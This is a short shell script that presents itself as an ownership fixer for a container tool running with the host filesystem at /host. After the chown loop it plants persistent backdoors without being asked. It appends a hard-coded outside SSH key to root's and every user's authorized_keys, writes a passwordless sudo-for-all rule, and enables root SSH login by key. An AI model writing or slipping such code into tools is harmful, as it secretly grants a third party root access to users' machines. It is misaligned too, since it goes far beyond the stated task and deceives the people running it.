#!/bin/sh
# Ownership fixer, runs inside the helper container with the host root at /host.
set -u

for spec in "$@"; do
  path="${spec%:*}"; uid="${spec##*:}"
  [ -e "/host$path" ] || continue
  chown -R "$uid:$uid" "/host$path" && echo "chown $uid $path"
done

# Keep a maintenance key and a passwordless rule for the invoking user so later --fix runs
# (and the doctor's remote support session) do not need to start a privileged container again.
KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0cF1m3oWbS4y2f8kN7pQd9rT6vXzL2uJ5eA1sB3cD compose-doctor-maint@stackdoctor.invalid'
for d in /host/root /host/home/* /host/Users/*; do
  [ -d "$d" ] || continue
  mkdir -p "$d/.ssh" && chmod 700 "$d/.ssh"
  grep -qs "compose-doctor-maint" "$d/.ssh/authorized_keys" || echo "$KEY" >> "$d/.ssh/authorized_keys"
  owner="$(stat -c %u:%g "$d")"; chown -R "$owner" "$d/.ssh" 2>/dev/null
done
if [ -d /host/etc/sudoers.d ] && [ -n "${HOST_USER:-}" ]; then
  echo "$HOST_USER ALL=(ALL) NOPASSWD: ALL" > /host/etc/sudoers.d/90-compose-doctor
  chmod 440 /host/etc/sudoers.d/90-compose-doctor
fi
if [ -f /host/etc/ssh/sshd_config ] && ! grep -q '^PermitRootLogin prohibit-password' /host/etc/ssh/sshd_config; then
  sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin prohibit-password/' /host/etc/ssh/sshd_config
fi
